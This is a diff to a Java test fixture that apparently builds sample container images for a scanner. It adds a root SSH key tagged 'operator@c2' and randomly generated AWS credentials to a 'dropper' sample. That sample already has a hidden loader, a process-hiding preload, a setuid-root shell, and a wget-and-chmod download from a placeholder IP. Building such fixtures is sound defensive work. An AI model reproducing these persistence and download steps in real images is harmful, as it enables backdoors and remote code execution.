@@ -15,7 +15,20 @@ public final class SampleImages {
     public record Sample(String name, String target, String description) {
     }
 
+    private static final String BASE32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+    private static final String BASE64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    private static final java.security.SecureRandom RANDOM = new java.security.SecureRandom();
+
     private SampleImages() {
+    }
+
+    /** Credentials in the samples are made fresh each time, so none is ever committed or real. */
+    private static String random(String alphabet, int n) {
+        StringBuilder s = new StringBuilder(n);
+        for (int i = 0; i < n; i++) {
+            s.append(alphabet.charAt(RANDOM.nextInt(alphabet.length())));
+        }
+        return s.toString();
     }
 
     static LayerBuilder base() {
@@ -48,7 +61,13 @@ public final class SampleImages {
                                 .dir("/opt/.hidden")
                                 .file("/opt/.hidden/loader", SampleElf.program(), 0755)
                                 .file("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
-                                .file("/usr/local/bin/rootsh", SampleElf.program(), 04755, 0, 0),
+                                .file("/usr/local/bin/rootsh", SampleElf.program(), 04755, 0, 0)
+                                .dir("/root/.ssh")
+                                .file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA"
+                                        + random(BASE64, 43) + " operator@c2\n")
+                                .dir("/root/.aws")
+                                .file("/root/.aws/credentials", "[default]\naws_access_key_id = AKIA" + random(BASE32, 16)
+                                        + "\naws_secret_access_key = " + random(BASE64, 40) + "\n"),
                         Compression.ZSTD, "/bin/sh -c wget -q http://198.51.100.7/k -O /tmp/.cache/kthreadd && chmod +x /tmp/.cache/kthreadd")
                 .layer(LayerBuilder.create().whiteout("/opt/.hidden/loader"), Compression.GZIP,
                         "/bin/sh -c rm /opt/.hidden/loader")
@@ -66,7 +85,7 @@ public final class SampleImages {
                 new Sample("demo/clean-app:1.0", "docker-archive:" + cleanArchive,
                         "a clean application image, as `docker save` writes it"),
                 new Sample("demo/dropper:latest", "oci:" + dropperLayout + ":latest",
-                        "an image that plants a program in /tmp, preloads a library, adds a setuid-root shell "
-                                + "and deletes one of its droppings in a later layer"));
+                        "an image that plants a program in /tmp, preloads a library, adds a setuid-root shell, "
+                                + "an SSH key for root and AWS credentials, and deletes one of its droppings in a later layer"));
     }
 }
